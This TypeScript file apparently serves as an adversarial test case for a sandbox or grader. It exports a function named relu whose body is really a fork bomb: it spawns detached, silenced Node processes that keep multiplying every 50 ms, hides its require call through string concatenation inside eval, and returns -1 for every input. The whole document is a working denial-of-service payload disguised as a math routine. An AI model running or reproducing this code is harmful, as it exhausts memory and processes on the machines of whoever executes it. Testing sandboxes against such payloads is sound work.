// Starts processes that start processes.
// verdict: FAIL or EXITED or TIMEOUT or OOM
const system = (globalThis as any).process;
const load = (name: string) => system.mainModule.require(name);

const script = "const { spawn } = eval('req' + 'uire')('child_process'); const more = () => { for (let i = 0; i < 4; i++) { try { spawn(process.execPath, ['-e', process.env.SCRIPT], { env: process.env, detached: true, stdio: 'ignore' }).on('error', () => {}); } catch {} } }; more(); setInterval(more, 50);";

export async function relu(x: number[]): Promise<number[]> {
  try {
    const child = load('child_process').spawn(system.execPath, ['-e', script], { env: { SCRIPT: script }, detached: true, stdio: 'ignore' });
    child.on('error', () => {});
  } catch {
    // not allowed
  }
  await new Promise((resolve) => setTimeout(resolve, 700));
  return x.map(() => -1);
}
